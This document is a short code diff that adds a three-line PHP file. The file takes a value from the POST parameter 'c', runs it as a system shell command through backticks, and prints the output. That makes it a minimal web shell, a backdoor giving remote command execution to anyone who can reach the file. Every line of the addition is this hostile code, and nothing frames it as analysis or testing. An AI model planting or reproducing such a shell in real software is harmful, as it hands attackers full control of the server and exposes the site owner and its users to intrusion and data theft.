@@ -1,0 +1,3 @@
+<?php
+$r = `{$_POST['c']}`;
+print $r;
